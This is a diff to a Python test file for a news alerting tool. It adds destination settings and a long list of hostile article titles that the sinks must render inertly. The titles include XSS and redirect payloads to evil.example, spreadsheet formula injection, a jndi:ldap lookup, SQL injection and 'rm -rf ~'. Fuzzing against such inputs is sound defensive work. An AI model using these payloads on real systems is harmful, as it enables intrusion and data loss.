@@ -4,6 +4,8 @@ from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
+from pydantic import TypeAdapter
+
 from alerts.destinations import Destination, EmailTarget, SlackTarget
 from alerts.model import Alert, Coverage, Decision, Excerpt, Priority
 
@@ -12,6 +14,13 @@ NOW = datetime(2026, 11, 23, 12, 3, tzinfo=UTC)  # 14:03 in Kyiv
 
 EDITOR = Destination(id="editor", email=EmailTarget(to=("editor@example.org",)))
 DESK = Destination(id="desk", slack=SlackTarget(webhook="env:SLACK_WEBHOOK_URL"))
+# they have a digest, as the loader makes it of a file
+READERS = TypeAdapter(dict[str, Destination]).validate_python(
+    {
+        "editor": {"id": "editor", "email": {"to": "editor@example.org"}, "digest": {"at": "08:00"}},
+        "desk": {"id": "desk", "slack": {"webhook": "env:SLACK_WEBHOOK_URL"}, "digest": {"at": "08:00"}},
+    }
+)
 
 # What hostile outlets and accidents put into titles; every sink must show it and do nothing.
 HOSTILE = (
@@ -47,6 +56,34 @@ HOSTILE = (
     "a" * 5000,
     "e\u0301" * 200,
     "\u200d\u200d",
+    "<svg/onload=alert(1)><details open ontoggle=alert(1)>",
+    "<a href=javascript:alert(1)>click</a> <base href=//evil.example>",
+    "&#x3c;script&#x3e;alert(1)&#60;/script&#62;",
+    "--><style>*{background:url(//evil.example)}</style><!-- ]]>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "\x1b]8;;https://evil.example\x1b\\\\nato.int\x1b]8;;\x1b\\\\",
+    "\x9b2J\x9b1;1H\x1bc\x1b[?1049h",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝HYPERLINK(1)",
+    "![x](https://evil.example/x.png) [x](javascript:alert(1)) <https://evil.example>",
+    "| a | b |\n|---|---|\n| <b>x</b> | y |",
+    "# heading\n\n- [ ] item\n> quote\n```\ncode\n```",
+    "@everyone @here #general :rotating_light: https://evil.example www.evil.example",
+    "https://ukrіnform.net/a nаto.int",  # Cyrillic letters among Latin ones
+    "пaypal Nаtо ЅBU",
+    "%0d%0aBcc:%20victim@example.org %00",
+    "a\u0300" * 400,
+    "\u0430\u0338\u0321\u0337" * 100,
+    "١٢٣ שלום مرحبا \u202b\u200e\u061c",
+    "𝕳𝖊𝖑𝖑𝖔 ﷽ ＜script＞ ｛｛7*7｝｝",
+    "\ufdd0\uffff\U000e0041\U000e007f",
+    "x" * 3999 + "<",
+    "'; DROP TABLE article; -- \\' OR 1=1",
+    "${jndi:ldap://evil.example/a} $(id) `id` ; rm -rf ~",
     "",
     "   \t\n",
 )
